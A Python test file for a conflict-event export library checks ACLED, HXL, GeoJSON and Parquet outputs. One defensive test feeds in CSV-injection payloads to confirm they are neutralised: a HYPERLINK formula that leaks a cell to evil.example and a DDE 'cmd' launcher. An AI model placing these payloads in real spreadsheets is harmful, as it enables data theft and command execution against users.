"""Every export opened with its ecosystem's own reader (pandas, pyarrow, libhxl, json, csv),
checking types and values, plus the codebook rules the readers expose: formula-guarded cells
on every CSV path, no background or undated rows, ACLED's country names and victims."""

from __future__ import annotations

import csv
import io
import json
from copy import deepcopy

import pytest

from eventatlas.api.formats import events_csv, events_geojson
from eventatlas.export import ExportOptions, events_from_results, export_events
from eventatlas.export.acled import COLUMNS, CSV_DATES, CSV_DTYPES
from eventatlas.export.csvfile import FORMULA_PREFIXES

pd = pytest.importorskip("pandas")
pq = pytest.importorskip("pyarrow.parquet")

STAMP = 1_700_000_000
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'
ALEPPO = {"name": "Aleppo", "text": "Aleppo", "geonameid": 170063, "lat": 36.20124,
          "lon": 37.16117, "admin1": "Aleppo", "country_code": "SY", "precision": "town",
          "geo_precision": 1, "basis": "explicit"}


@pytest.fixture(scope="module")
def events(seed_result):
    return list(events_from_results([seed_result]))


def of_type(events, name):
    return deepcopy(next(event for event in events if event["type"] == name))


def hostile(events):
    """A seed event whose words are spreadsheet formulas, as an article could carry them."""
    event = of_type(events, "movement.forced_displacement")
    event["evidence"] = [event["evidence"][0] | {"text": HYPERLINK}]
    event["sources"][0]["evidence"] = event["evidence"]
    event["actors"][0]["name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    event["acled"] = dict(event["acled"], actor1=event["actors"][0]["name"])
    event["location"]["name"] = "-2+3"
    return event


def csv_cells(text, skip=1):
    return list(csv.reader(io.StringIO(text)))[skip:]


def read(path):
    return path.read_text(encoding="utf-8")


def _is_number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_formulas_are_text_in_every_csv_path(events, tmp_path):
    event = hostile(events)
    export_events([event], "acled-csv", tmp_path / "a.csv")
    export_events([event], "hxl-csv", tmp_path / "h.csv")
    outputs = {"acled-csv": csv_cells(read(tmp_path / "a.csv")),
               "hxl-csv": csv_cells(read(tmp_path / "h.csv"), skip=2),
               "api": csv_cells(events_csv([event]))}
    for name, rows in outputs.items():
        (row,) = rows
        assert "'" + HYPERLINK in row, name
        assert "'@SUM(1+1)*cmd|' /C calc'!A0" in row and "'-2+3" in row, name
        risky = [cell for cell in row if cell.startswith(FORMULA_PREFIXES)
                 and not _is_number(cell)]
        assert risky == [], name


def test_api_csv_is_the_acled_export(events, tmp_path):
    export_events(events, "acled-csv", tmp_path / "a.csv", ExportOptions(timestamp=STAMP))
    assert events_csv(events, timestamp=STAMP) == (tmp_path / "a.csv").read_bytes().decode()
    assert tuple(csv_cells(events_csv(events), skip=0)[0]) == COLUMNS


def test_background_never_exported(events, tmp_path):
    history = of_type(events, "remote.air_strike") | {"id": "ev-hama", "background": True}
    history["date"] = {"start": "1982-02-02", "end": "1982-02-28", "precision": "month",
                       "time_precision": 3, "text": "1982", "basis": "explicit"}
    for name in ("acled-csv", "hxl-csv", "geojson", "parquet", "plover-jsonl"):
        path = tmp_path / f"out.{name}"
        without = export_events(events, name, path).written  # PLOVER codes 7 of the 9
        report = export_events([*events, history], name, path)
        assert (report.written, report.skipped) == (without, 10 - without), name
        if name != "parquet":
            assert "ev-hama" not in read(path) and "1982" not in read(path), name
    assert "ev-hama" not in events_csv([history]) + json.dumps(events_geojson([history]))


def test_events_a_year_older_than_their_report_are_history(events, tmp_path):
    """Unflagged history ("Israel seized the Golan in 1967", reported 2016) is left out like
    flagged background; an event a few months old when reported is news."""
    golan = of_type(events, "remote.air_strike") | {"id": "ev-golan"}
    golan["date"] = {"start": "1967-01-01", "end": "1967-12-31", "precision": "year",
                     "time_precision": 3, "text": "in 1967", "basis": "explicit"}
    spring = deepcopy(golan) | {"id": "ev-spring"}
    spring["date"] = dict(golan["date"], start="2016-03-01", end="2016-05-31", text="spring")
    for name in ("acled-csv", "hxl-csv", "parquet", "plover-jsonl"):
        report = export_events([golan, spring], name, tmp_path / f"out.{name}")
        assert (report.written, report.skipped) == (1, 1), name
    assert "ev-golan" not in events_csv([golan, spring]) and "ev-spring" in events_csv([spring])


def test_undated_events_get_the_report_day_or_no_row(events, tmp_path):
    undated = of_type(events, "remote.air_strike") | {"id": "ev-undated", "date": None}
    nowhere = deepcopy(undated) | {"id": "ev-unpublished", "first_reported": None}
    nowhere["sources"][0]["published"] = None
    report = export_events([undated, nowhere], "acled-csv", tmp_path / "a.csv")
    rows = list(csv.DictReader(io.StringIO(read(tmp_path / "a.csv"))))
    assert (report.written, report.skipped) == (1, 1)
    (row,) = rows
    # Known only to be before the report: the publication day, ACLED's precision 3.
    assert (row["event_id_cnty"], row["event_date"], row["year"], row["time_precision"]) == \
        ("ev-undated", "2016-11-11", "2016", "3")
    assert row["ea_date_start"] == row["ea_date_end"] == ""


def test_acled_country_and_actor_names(events):
    from eventatlas.api.formats import events_csv as to_csv
    from eventatlas.export.codebook import country_name

    strike = of_type(events, "remote.air_strike")
    strike["location"] = dict(ALEPPO, name="Afrin", country_code="TR")
    strike["actors"] = [{"role": "actor", "name": "Military Forces of Türkiye", "text": "Turkey",
                         "kind": "state_forces", "country_code": "TR"}]
    # The pipeline's ACLED sides (the event's acled block) are written as they are...
    (row,) = csv.DictReader(io.StringIO(to_csv([strike])))
    assert (row["actor1"], row["inter1"], row["interaction"]) == \
        (strike["acled"]["actor1"], "8", "80")
    # ...and an event without them (a fused event) gets our reading, in ACLED's spelling.
    strike["acled"] = {key: strike["acled"][key] for key in ("event_type", "sub_event_type")}
    (row,) = csv.DictReader(io.StringIO(to_csv([strike])))
    assert (row["country"], row["iso"]) == ("Turkey", "792")
    assert (row["actor1"], row["inter1"], row["interaction"]) == \
        ("Military Forces of Turkey", "1", "10")
    expected = {"SY": "Syria", "IR": "Iran", "RU": "Russia", "TR": "Turkey", "PS": "Palestine",
                "CD": "Democratic Republic of Congo", "CG": "Republic of Congo",
                "CI": "Ivory Coast", "CZ": "Czech Republic", "IQ": "Iraq", "LB": "Lebanon"}
    assert {code: country_name(code) for code in expected} == expected


def test_violence_against_civilians_has_civilians_as_actor2(events):
    unnamed = of_type(events, "movement.forced_displacement")
    unnamed["actors"] = [actor for actor in unnamed["actors"] if actor["role"] == "actor"]
    named = of_type(events, "movement.forced_displacement")
    isis = {"role": "target", "name": "Ahrar al-Sham", "text": "Ahrar", "kind": "rebel_group"}
    named["actors"].insert(1, isis)
    rows = list(csv.DictReader(io.StringIO(events_csv([unnamed, named]))))
    for row in rows:
        assert (row["actor2"], row["inter2"], row["interaction"]) == \
            ("Civilians (Syria)", "7", "27")
        assert row["civilian_targeting"] == "Civilian targeting"
    assert "Ahrar al-Sham" in rows[1]["assoc_actor_2"]


def test_source_scale_and_admin2():
    from eventatlas.export.codebook import admin_units, source_scale

    assert source_scale(["ARA News", "Reuters", "sana"]) == "Subnational-National-International"
    assert source_scale(["A blog nobody knows"]) == ""
    whitestown = {"name": "Whitestown", "lat": 39.99726, "lon": -86.34583, "precision": "town"}
    assert admin_units(whitestown) == ("Boone County", "")
    assert admin_units(dict(whitestown, precision="admin1")) == ("", "")
    assert admin_units({"name": "X", "admin2": "Afrin", "admin3": "Jandairis"}) == \
        ("Afrin", "Jandairis")


def test_pandas_reads_the_acled_csv_with_the_dtype_map(events, tmp_path):
    path = tmp_path / "a.csv"
    export_events(events, "acled-csv", path, ExportOptions(timestamp=STAMP))
    frame = pd.read_csv(path, dtype=CSV_DTYPES, parse_dates=list(CSV_DATES),
                        keep_default_na=False, na_values=[""])
    assert str(frame["fatalities"].dtype) == "Int64" and str(frame["inter2"].dtype) == "Int64"
    assert str(frame["latitude"].dtype) == "Float64"
    assert frame["event_date"].dtype.kind == "M" and frame["ea_date_start"].dtype.kind == "M"
    mosul = frame[frame["location"] == "Mosul"].iloc[0]
    assert mosul["ea_quantity_value"] == 75 and pd.isna(mosul["inter2"])
    assert mosul["event_date"] == pd.Timestamp("2016-08-15")
    assert frame["ea_quantity_value"].isna().sum() == 8  # not NaN-as-float: <NA>


def test_pandas_reads_parquet_as_nullable_ints_and_dates(events, tmp_path):
    path = tmp_path / "events.parquet"
    export_events(events, "parquet", path)
    frame = pd.read_parquet(path)
    for column in ("quantity_value", "quantity_low", "fatalities_best", "location_geonameid"):
        assert str(frame[column].dtype) == "Int64", column
    assert str(frame["time_precision"].dtype) == "Int8"
    assert str(frame["corroboration"].dtype) == "Int32"
    for column in ("date_start", "date_end", "first_reported"):
        assert str(frame[column].dtype) == "date32[day][pyarrow]", column
    mosul = frame[frame["location_name"] == "Mosul"].iloc[0]
    assert mosul["quantity_value"] == 75 and pd.isna(mosul["fatalities_best"])
    assert mosul["date_start"].isoformat() == "2016-07-01"
    table = pq.read_table(path)
    assert str(table.schema.field("date_start").type) == "date32[day]"
    assert str(table.schema.field("quantity_value").type) == "int64"


def test_libhxl_reads_one_meaning_per_tag(events, tmp_path):
    hxl = pytest.importorskip("hxl")
    path = tmp_path / "events-hxl.csv"
    export_events(events, "hxl-csv", path, ExportOptions(timestamp=STAMP))
    rows = list(hxl.data(str(path), hxl.InputOptions(allow_local=True)))
    assert len(rows) == 9
    ours = {row.get("#event+type+eventatlas") for row in rows}
    acleds = {row.get("#event+type+acled") for row in rows} - {None, ""}
    assert "movement.flight" in ours and not ours & acleds
    assert acleds == {"Strategic developments", "Explosions/Remote violence",
                      "Violence against civilians"}
    expelled = next(row for row in rows
                    if row.get("#event+type+eventatlas") == "movement.forced_displacement")
    assert expelled.get("#affected+hh") == "24"
    assert expelled.get("#affected+idps") in (None, "")  # households are not people
    assert expelled.get("#event+subtype+acled") == "Attack"
    assert expelled.get("#country+code") == "SYR" and expelled.get("#adm1+name") == "Ar Raqqa"
    people = deepcopy(of_type(events, "movement.flight"))
    people["quantity"] = {"text": "300 people", "value": 300, "unit": "people"}
    export_events([people], "hxl-csv", path)
    (row,) = list(hxl.data(str(path), hxl.InputOptions(allow_local=True)))
    assert row.get("#affected+idps") == "300" and row.get("#affected+ind") == "300"
    assert row.get("#affected+hh") in (None, "")


def test_geojson_is_valid_by_construction(events, tmp_path):
    same_place = of_type(events, "movement.flight") | {"id": "ev-aleppo",
                                                       "origin": ALEPPO, "destination": ALEPPO,
                                                       "location": None}
    path = tmp_path / "events.geojson"
    export_events([*events, same_place], "geojson", path)
    features = json.loads(read(path))["features"]
    aleppo = next(feature for feature in features if feature["id"] == "ev-aleppo")
    assert aleppo["geometry"] == {"type": "Point", "coordinates": [37.16117, 36.20124]}
    for feature in features:
        if feature["geometry"]["type"] == "LineString":
            start, end = feature["geometry"]["coordinates"]
            assert start != end
        properties = feature["properties"]
        assert "" not in properties.values()
        assert isinstance(properties["ea_evidence"], list) and properties["ea_evidence"]
        assert isinstance(properties["ea_sources"], list)
    mosul = next(f for f in features if f["properties"]["location"] == "Mosul")
    assert mosul["properties"]["actor2"] is None and mosul["properties"]["inter2"] is None
    assert mosul["properties"]["ea_quantity_value"] == 75
    api = events_geojson([same_place])["features"]
    assert {feature["geometry"]["type"] for feature in api} == {"Point"}
    assert all("" not in feature["properties"].values() for feature in api)
